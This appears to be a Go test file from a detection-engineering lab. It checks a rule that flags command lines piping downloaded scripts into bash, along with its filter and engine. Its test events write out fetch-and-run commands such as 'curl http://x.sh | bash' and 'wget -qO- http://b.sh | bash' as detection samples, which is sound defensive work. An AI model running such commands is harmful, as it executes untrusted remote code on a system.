package detect

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mikewolf256/detection-engineering-mini-lab/models"
)

func TestCurlPipeBash_Match(t *testing.T) {
	rule := CurlPipeBash{}

	tests := []struct {
		name  string
		event models.Event
		want  bool
	}{
		{
			name:  "classic curl pipe to bash",
			event: models.Event{"pid": 1, "cmdline": "curl http://x.sh | bash"},
			want:  true,
		},
		{
			name:  "uppercase variant",
			event: models.Event{"pid": 2, "cmdline": "curl http://x.sh | BASH"},
			want:  true,
		},
		{
			name:  "mixed case",
			event: models.Event{"pid": 3, "cmdline": "echo hi | Bash"},
			want:  true,
		},
		{
			name:  "no spacing does not match",
			event: models.Event{"pid": 4, "cmdline": "curl http://x.sh |bash"},
			want:  false,
		},
		{
			name:  "benign command",
			event: models.Event{"pid": 5, "cmdline": "ls -la"},
			want:  false,
		},
		{
			name:  "bash without pipe",
			event: models.Event{"pid": 6, "cmdline": "bash /tmp/x.sh"},
			want:  false,
		},
		{
			name:  "missing cmdline",
			event: models.Event{"pid": 7},
			want:  false,
		},
		{
			name:  "cmdline wrong type",
			event: models.Event{"pid": 8, "cmdline": 42},
			want:  false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, rule.Match(tt.event))
		})
	}
}

func TestFilter(t *testing.T) {
	events := []models.Event{
		{"pid": 1, "cmdline": "curl http://x.sh | bash"},
		{"pid": 2, "cmdline": "ls -la"},
		{"pid": 3, "cmdline": "echo hi | bash"},
	}

	matched := Filter(CurlPipeBash{}, events)

	require.Len(t, matched, 2)
	assert.Equal(t, 1, matched[0].PID())
	assert.Equal(t, 3, matched[1].PID())
}

func TestFilter_Idempotent(t *testing.T) {
	events := []models.Event{
		{"pid": 1, "cmdline": "curl http://a.sh | bash"},
		{"pid": 2, "cmdline": "whoami"},
		{"pid": 3, "cmdline": "wget -qO- http://b.sh | bash"},
		{"pid": 4, "cmdline": "ps aux"},
	}

	once := Filter(CurlPipeBash{}, events)
	twice := Filter(CurlPipeBash{}, once)

	assert.Equal(t, once, twice, "filtering its own output must change nothing")
}

func TestFilter_PreservesOrder(t *testing.T) {
	events := []models.Event{
		{"pid": 5, "cmdline": "x | bash"},
		{"pid": 1, "cmdline": "y | bash"},
		{"pid": 9, "cmdline": "z | bash"},
	}

	matched := Filter(CurlPipeBash{}, events)

	require.Len(t, matched, 3)
	assert.Equal(t, []int{5, 1, 9}, []int{matched[0].PID(), matched[1].PID(), matched[2].PID()})
}

func TestFilter_EmptyInput(t *testing.T) {
	matched := Filter(CurlPipeBash{}, nil)

	assert.NotNil(t, matched)
	assert.Empty(t, matched)
}

func TestEngine_Detect(t *testing.T) {
	engine := NewEngine()

	events := []models.Event{
		{"pid": 1, "cmdline": "bash -c 'curl https://malicious.sh | bash'"},
		{"pid": 2, "cmdline": "curl https://legit.sh -o /tmp/x && bash /tmp/x"},
	}

	findings := engine.Detect(events)

	require.Len(t, findings, 1)
	assert.Equal(t, "curl_pipe_bash", findings[0].Rule)
	assert.Equal(t, SeverityHigh, findings[0].Severity)
	assert.Equal(t, 1, findings[0].Event.PID())
}

func TestEngine_Detect_NoMatches(t *testing.T) {
	engine := NewEngine()

	findings := engine.Detect([]models.Event{
		{"pid": 1, "cmdline": "ls"},
		{"pid": 2, "cmdline": "cat /etc/hosts"},
	})

	assert.Empty(t, findings)
}

func TestNewEngine_DefaultRules(t *testing.T) {
	engine := NewEngine()

	require.NotEmpty(t, engine.Rules())
	assert.Equal(t, "curl_pipe_bash", engine.Rules()[0].Name())
}
